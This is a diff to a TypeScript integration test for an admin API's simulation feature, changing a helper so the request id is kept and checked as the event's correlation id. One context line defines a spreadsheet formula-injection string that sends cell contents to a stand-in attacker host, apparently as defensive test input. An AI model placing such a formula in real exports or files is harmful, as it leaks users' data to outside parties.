@@ -18,7 +18,7 @@ import { simulationKey } from '../../functions/commons/store/items/keys.js';
 import { handler as simulationWorker } from '../../functions/simulation-worker/handler.js';
 import { localAws, localS3, publishedEvents, relayOutbox } from '../support/emulators/env.js';
 import { handler as adminApi } from '../../functions/admin-api/handler.js';
-import { admin, applicant, caller } from '../support/http-events.js';
+import { admin, applicant, caller, httpEvent, invoke } from '../support/http-events.js';
 import { tableItems } from '../support/local-api.js';
 import { drainQueue } from '../payout/queue-driver.js';
 import {
@@ -42,8 +42,15 @@ afterEach(() => {
 
 const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
 
-const start = (payload: unknown, as = admin(), language = 'en') =>
-  call.start('POST /v1/admin/simulations', { as, body: payload, headers: { 'accept-language': language } });
+/** The answer, and the request's id: the simulation's correlation id. */
+async function start(payload: unknown, as = admin(), language = 'en') {
+  const request = httpEvent('POST /v1/admin/simulations', {
+    as,
+    body: payload,
+    headers: { 'accept-language': language },
+  });
+  return { ...(await invoke(adminApi, request)), requestId: request.requestContext.requestId };
+}
 const read = (id: string, as = admin()) => call.get('GET /v1/admin/simulations/{id}', { as, path: { id } });
 const drain = (options: { acknowledge?: (records: unknown[]) => boolean } = {}) =>
   drainQueue({ sqs, queueUrl: simulationQueueUrl, handler: simulationWorker, concurrency: 3, ...options });
@@ -60,7 +67,7 @@ async function simulate(payload: Record<string, unknown>, language = 'en') {
   const done = await read(started.body.simulationId);
   expect(done.status).toBe(200);
   expect(done.body.status).toBe('COMPLETED');
-  return done.body;
+  return { ...done.body, requestId: started.requestId };
 }
 
 const at = (instant: string) => () => new Date(instant);
@@ -164,6 +171,8 @@ describe('a what-if simulation', () => {
       (event) => event.detail.simulationId === simulation.simulationId,
     );
     expect(events).toHaveLength(1);
+    // It names the request that started the simulation, as the payout run's events name theirs.
+    expect(events[0]!.detail.correlationId).toBe(simulation.requestId);
     expect((events[0]!.detail as { programmes: unknown[] }).programmes[0]).toMatchObject({
       programme: 'OSP_OPERATING',
       difference: '500000.00',
